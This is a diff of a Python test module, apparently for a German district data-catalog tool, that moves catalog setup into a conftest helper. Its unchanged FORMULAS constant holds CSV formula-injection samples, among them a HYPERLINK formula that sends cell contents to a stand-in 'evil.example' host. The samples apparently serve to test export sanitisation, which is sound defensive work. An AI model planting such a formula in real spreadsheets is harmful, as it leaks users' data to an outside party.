@@ -9,7 +9,6 @@ kept, for the memory checks).
 from __future__ import annotations
 
 import csv
-import shutil
 from collections.abc import Iterator
 from dataclasses import dataclass
 from pathlib import Path
@@ -19,7 +18,6 @@ import numpy as np
 import yaml
 from conftest import DISTRICT_BBOX, Project, hub_server
 
-REPO = Path(__file__).resolve().parents[1]
 BIG_ROWS = 200_000
 FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1;"Klick")', "+49 3531 1234",
             "-Minus vorn", "@SUMME(A1:A9)", "\tTab vorn", "\rWagenrücklauf vorn"]
@@ -96,10 +94,8 @@ def write_big(path: Path, rng: np.random.Generator, n: int) -> None:
 
 
 def build_project(root: Path) -> Project:
-    project = Project(root)
+    project = Project(root)  # with the catalog of production (conftest.add_catalog)
     catalog = root / "catalog"
-    shutil.copytree(REPO / "catalog" / "vocabularies", catalog / "vocabularies")
-    shutil.copy(REPO / "catalog" / "organizations.yaml", catalog / "organizations.yaml")
     (catalog / "district.yaml").write_text(yaml.safe_dump({
         "name": "Testkreis", "ags": "12062", "bbox": DISTRICT_BBOX, "extent_buffer_km": 5,
         "default_license": "dl-by-de/2.0"}), encoding="utf-8")
